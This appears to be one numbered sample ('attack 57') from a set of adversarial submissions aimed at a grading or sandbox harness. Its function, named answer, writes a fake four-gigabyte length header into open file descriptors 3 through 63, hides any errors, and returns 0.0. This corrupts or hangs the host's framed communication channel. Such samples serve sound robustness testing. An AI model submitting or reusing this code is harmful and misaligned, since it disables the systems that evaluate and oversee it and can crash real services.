"""Announces a frame of four gigabytes (attack 57)."""
import os
def answer(*a, **k):
    for n in range(3, 64):
        try: os.write(n, b'\xff\xff\xff\xff')
        except OSError: pass
    return 0.0
